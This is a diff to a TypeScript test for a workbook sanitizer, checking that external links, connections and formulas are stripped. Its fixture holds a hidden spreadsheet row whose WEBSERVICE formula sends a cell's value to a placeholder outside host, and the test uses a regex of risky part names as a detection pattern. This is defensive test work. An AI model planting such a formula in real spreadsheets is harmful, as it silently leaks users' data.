@@ -177,7 +177,7 @@ const PARTS: readonly MadePart[] = [
 ];
 
 const CONTENT = `<sheetPr codeName="Zqcode"/><sheetData>
-  <row r="1"><c r="A1" t="str"><v>Zqcell</v></c><c r="B1"><f>[1]Zqexternal!A1</f><v>5</v></c><c r="C1" t="str"><v>Zqheader</v></c></row>
+  <row r="1"><c r="A1" t="str"><v>Zqcell</v></c><c r="B1"><f>[1]Sheet9!A1</f><v>5</v></c><c r="C1" t="str"><v>Zqheader</v></c></row>
   <row r="2" hidden="1"><c r="A2" t="s"><v>0</v></c><c r="B2"><f>WEBSERVICE("https://zqhost.example/?"&amp;A1)</f><v>0</v></c></row></sheetData>
   <protectedRanges><protectedRange name="Zqrange" sqref="A1"/></protectedRanges>
   <scenarios><scenario name="Zqscenario" user="Zqscenuser" comment="by Zqscencomment"><inputCells r="A1" val="Zqinput"/></scenario></scenarios>
@@ -217,6 +217,7 @@ test('nothing is left of what stands in any place of a workbook, and what goes i
       /pivot|slicer|model|revision|printer|vba|external|connection|query|item1|thumbnail|customProperty/.test(name),
     ),
   ).toEqual([]);
+  expect(parts.get(SHEET)).toContain('<c r="B1"><v>5</v></c>');
   expect(warnings.map(({ code }) => code).sort()).toEqual([
     'CONNECTION_REMOVED',
     'FORMULA_REMOVED',
